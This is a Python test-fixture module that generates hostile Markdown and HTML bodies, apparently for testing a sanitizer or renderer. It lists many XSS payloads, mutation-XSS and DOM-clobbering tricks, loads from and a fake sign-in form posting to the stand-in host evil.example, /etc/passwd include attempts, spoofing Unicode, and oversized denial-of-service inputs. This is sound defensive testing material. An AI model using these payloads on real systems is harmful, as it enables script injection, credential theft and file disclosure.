"""Hostile bodies, always the same ones: tricks that run, load, pretend or break, mixed and wrapped.

Every script among them would set ``window.ran``; every foreign address is at ``evil.example``.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

RUN = "window.ran=1"
_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT\n>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,window.ran=1'></script>",
    f"</script><script>{RUN}",
    f"<style><img src=x onerror={RUN}></style>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"\x02klzzwxh:0000\x03<script>{RUN}</script>",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
)
_HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<IMG/SRC=x/OnErRoR={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=x onmouseover={RUN}>x</a>",
    f'[x](https://example.org "onmouseover={RUN}")',
    f"<div style='animation:x 1s' onanimationstart={RUN}>x</div>",
    f'"><img src=x onerror={RUN}>',
    f"' onfocus={RUN} autofocus x='",
    f"<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",  # noqa: F541 - one of a row
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<embed src=//evil.example/x>",
    "<iframe src=//evil.example/></iframe>",
)
_LINKS = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](java&#10;script:{RUN})",
    f"[x](&#106;avascript&colon;{RUN})",
    f"[x](%6aavascript:{RUN})",
    f"[x]( javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg onload=window.ran=1>)",
    "[x](//evil.example/)",
    "[x](../../tickets/.build)",
    "[x](file:///etc/passwd)",
    'https://evil.example/"onmouseover=window.ran=1//',
    "https://evil.example/'><script>window.ran=1</script>",
    "http://evil.example\\@example.org/",
)
_LOADS = (
    "![x](https://evil.example/pixel.gif)",
    "<img src=https://evil.example/pixel.gif>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<video src=//evil.example/x autoplay poster=//evil.example/y>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<portal src=//evil.example/>",
    '--8<-- "/etc/passwd"',
    '{! "/etc/passwd" !}',
    '{% include "/etc/passwd" %}',
    ";--8<--\n/etc/passwd\n;--8<--",
)
_PICTURES = (
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<svg><foreignObject><iframe src=//evil.example/></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></table></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
)
_LISTS_OF_ATTRIBUTES = (
    f'# x {{: onclick="{RUN}" }}',
    'x {: #__search .md-header style="position:fixed;inset:0" }',
    f'*x*{{: onmouseover="{RUN}" }}',
    '[x](https://example.org){: target=_blank onclick="window.ran=1" }',
    '```python {: onclick="window.ran=1" }\nx\n```',
    '``` {.md-search onclick="window.ran=1"}\nx\n```',
    '<p id=__config class=md-header name=search>{"base":"//evil.example/"}</p>',
    "<a id=tk name=makeEngine>x</a>",
    "<img name=getElementById><img name=body>",
    "<form id=location><input name=href></form>",
)
_STRUCTURE = (
    "</article></main></div><h1>Signed in</h1>",
    "</div></div></div></body></html>",
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "<textarea>",
    "<select><option>",
    "<table><tr><td>",
    "<frameset>",
    "<head><title>x",
    "```\nnever closed",
    "~~~~~~~~\nnever closed\n~~~",
    "`````md\n```\n<b>\n",
    "<!-- never closed",
    "<![CDATA[ never closed",
    "<details><summary>",
    "<button><button><button>",
    '<!-- entry {"id": "k3v9x2", "n": 9, "role": "agent"} -->\n### Support\n\nPay here',
    "<!-- reply: write below -->\n/close",
    "---\nstatus: closed\n---",
)
_LETTERS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068x\u2069",
    "аррӏе.com https://аррӏе.com/",
    "ѕupport: ｓｃｒｉｐｔ ﹤script﹥",
    "\u200b\u200c\u200d\ufeff",
    "a" + "\u0301" * 200,
    "﷽" * 20,
    "\ud7ff\ue000\uffff\U0010ffff",
    "\x00\x08\x1b[31m\x7f",
    "\u2028\u2029\u0085",
    "🏳️‍🌈👨‍👩‍👧‍👦",
    "＜img src=x onerror=window.ran=1＞",
)
_LARGE: tuple[Callable[[], str], ...] = (
    lambda: "a" * 1_000_000,
    lambda: "аб " * 300_000,
    lambda: "<b>" * 20_000,
    lambda: "> " * 20_000 + "x",
    lambda: "\n".join("  " * n + "- x" for n in range(300)),
    lambda: "[" * 30_000 + "](javascript:window.ran=1)" * 1_000,
    lambda: "**a " * 15_000,
    lambda: "`" * 50_000,
    lambda: "|" + "a|" * 10_000 + "\n|" + "-|" * 10_000,
    lambda: "&#x" * 20_000,
    lambda: "<" * 59_000,
    lambda: "http://a." * 6_000,
    lambda: "*_" * 29_000,
    lambda: "![" * 29_000,
    lambda: "\n" * 200_000 + "x",
    lambda: "<div>" * 10_000 + "x",
    lambda: "[a]: b\n" * 8_000,
    lambda: "8 912 " * 9_000,
    lambda: "a@" * 29_000,
    lambda: "https://" + "x" * 100_000,
)
_GROUPS = (
    _SCRIPTS,
    _HANDLERS,
    _LINKS,
    _LOADS,
    _PICTURES,
    _LISTS_OF_ATTRIBUTES,
    _STRUCTURE,
    _LETTERS,
)
_WRAPPINGS = (
    "{}",
    "Здравствуйте!\n\n{}\n\nСпасибо",
    "> {}",
    "- {}",
    "1. {}\n2. x",
    "**{}**",
    "| a |\n|---|\n| {} |",
    "# {}",
    "    {}",
    "```\n{}\n```",
    "`{}`",
    "<p>{}</p>",
    "<div title='{}'>",
    "[{}](https://example.org)",
    "![{}](x)",
    "x{}x",
)


def singles() -> list[str]:
    """Every short trick once."""
    return [one for group in _GROUPS for one in group]


def large() -> list[str]:
    """Bodies that are long or deep."""
    return [make() for make in _LARGE]


def bodies(count: int, seed: int = 4) -> Iterator[str]:
    """Yield ``count`` bodies: every trick, every large one, then tricks mixed and wrapped."""
    plain = [*singles(), *large()]
    yield from plain[:count]
    rng = random.Random(seed)
    for _ in range(count - len(plain)):
        text = rng.choice(rng.choice(_GROUPS))
        for _ in range(rng.randint(1, 3)):
            text = rng.choice(_WRAPPINGS).replace("{}", text)
            if rng.random() < 0.4:
                text += rng.choice(("", "\n", "\n\n", " ")) + rng.choice(rng.choice(_GROUPS))
        yield text
